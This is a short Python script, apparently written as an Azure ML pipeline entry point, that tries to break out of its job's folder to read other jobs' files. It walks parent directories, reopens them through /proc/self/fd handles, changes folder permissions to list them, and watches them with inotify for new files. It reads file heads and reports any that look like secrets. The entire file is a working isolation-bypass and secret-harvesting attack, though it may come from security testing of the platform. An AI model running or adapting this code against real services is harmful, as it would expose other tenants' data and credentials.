"""Looks which other jobs were given contents, and reads those: by listing, by its own folder, by being told of news."""

import os

from attack import BAIT, attack, c, every, is_secret, told
from link import given


def look(folder):
    found = []
    for place, _, names in os.walk(folder):
        found += [os.path.join(place, name) for name in names]
    return every(read_all, found)


def read_all(path):
    with open(path, "rb") as stream:
        content = stream.read(1000)
    return told(path, content) if is_secret(content) else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    place = os.path.dirname(os.path.dirname(os.path.dirname(given())))
    above = os.open(place, os.O_PATH)

    def list_it(folder):
        os.listdir(folder)
        return look(folder)

    def open_it(folder):
        os.chmod(folder, 0o755)
        try:
            return list_it(folder)
        finally:
            os.chmod(folder, 0o311)

    def watch():
        number = c("inotify_init1", 0)
        c("inotify_add_watch", number, os.fsencode(place), 0x100)
        return "is told of what is made in %s" % place

    folders = [BAIT["given"], place, "/proc/self/fd/%d" % above, "/proc/self/fd/%d/." % above]
    ways = [lambda folder=folder: list_it(folder) for folder in folders]
    ways += [lambda folder=folder: open_it(folder) for folder in folders]
    return every(lambda way: way(), [*ways, watch])
